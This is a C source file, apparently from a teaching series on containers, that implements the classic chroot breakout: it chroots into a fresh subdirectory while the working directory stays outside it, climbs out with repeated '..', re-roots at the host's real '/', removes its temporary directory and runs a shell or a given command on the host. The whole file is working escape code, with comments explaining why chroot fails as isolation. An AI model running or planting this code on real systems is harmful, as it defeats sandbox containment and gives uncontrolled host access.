/*
 * unroot: break out of a chroot, the classic way.
 *
 *   unroot [COMMAND [ARG...]]
 *
 * Run inside a chroot as root (it needs CAP_SYS_CHROOT), it climbs back
 * to the host's real root and runs COMMAND (default /bin/sh) there.
 * Built static, because after the escape the host's libraries are not
 * the ones it was started with.
 *
 * Why it works: the kernel stops ".." only at the process's *current*
 * root. chroot into a subdirectory moves that root below us while the
 * working directory stays where it was -- outside the new root -- so the
 * next ".." steps are never stopped, and they climb to the real "/".
 * chroot(2) says it plainly: "This call does not change the current
 * working directory" and "is not intended to be used for any kind of
 * security purpose". Chapter 02 closes the hole with pivot_root.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Far more ".." than any real path is deep; extra ones stop at "/". */
enum { CLIMB = 256 };

static void die(const char *call, const char *object)
{
	int err = errno;

	fprintf(stderr, "unroot: %s %s: %s\n", call, object, strerror(err));
	if (err == EPERM)
		fprintf(stderr,
			"  hint: the escape needs CAP_SYS_CHROOT: run it as root inside the chroot\n");
	exit(125);
}

static void escape_chroot(void)
{
	char dir[] = "/.unroot-XXXXXX";

	/* Hold the current root open, to clean up after ourselves later. */
	int old_root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (old_root == -1)
		die("open", "/");

	/* 1. A directory to chroot into. Our working directory is "/"... */
	if (mkdtemp(dir) == NULL)
		die("mkdtemp", dir);
	if (chdir("/") == -1)
		die("chdir", "/");

	/* 2. ...and stays there: chroot moves the root below our feet. */
	if (chroot(dir) == -1)
		die("chroot", dir);

	/* 3. Climb. No ".." is stopped, since the root is below us. */
	for (int i = 0; i < CLIMB; i++) {
		if (chdir("..") == -1)
			die("chdir", "..");
	}

	/* 4. Here is the host's real "/": make it our root again. */
	if (chroot(".") == -1)
		die("chroot", ".");

	/* Leave nothing behind in the rootfs we escaped from. */
	if (unlinkat(old_root, dir + 1, AT_REMOVEDIR) == -1)
		die("rmdir", dir);
	close(old_root);
}

int main(int argc, char *argv[])
{
	/*
	 * A common copy of this exploit runs execl("/bin/sh", "-i", NULL),
	 * which passes "-i" as argv[0] -- the program's *name* -- not as an
	 * option. argv[0] is the name; options come after it.
	 */
	static char *default_command[] = {"/bin/sh", NULL};
	char **command = argc > 1 ? &argv[1] : default_command;

	if (argc > 1 && (strcmp(argv[1], "-h") == 0 || strcmp(argv[1], "--help") == 0)) {
		puts("usage: unroot [COMMAND [ARG...]]\n"
		     "Escape the chroot we run in, then run COMMAND (default /bin/sh) on the host.");
		return 0;
	}

	escape_chroot();
	execvp(command[0], command);

	int err = errno;
	fprintf(stderr, "unroot: execvp %s: %s\n", command[0], strerror(err));
	return err == ENOENT ? 127 : 126;
}
